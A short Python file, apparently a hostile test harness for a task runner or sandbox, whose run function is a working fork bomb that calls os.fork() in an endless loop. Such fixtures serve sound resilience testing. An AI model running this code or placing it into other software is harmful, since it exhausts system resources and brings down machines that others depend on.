"""Hostile harness: a fork bomb."""

import os


async def run(task, ctx):
    while True:
        os.fork()
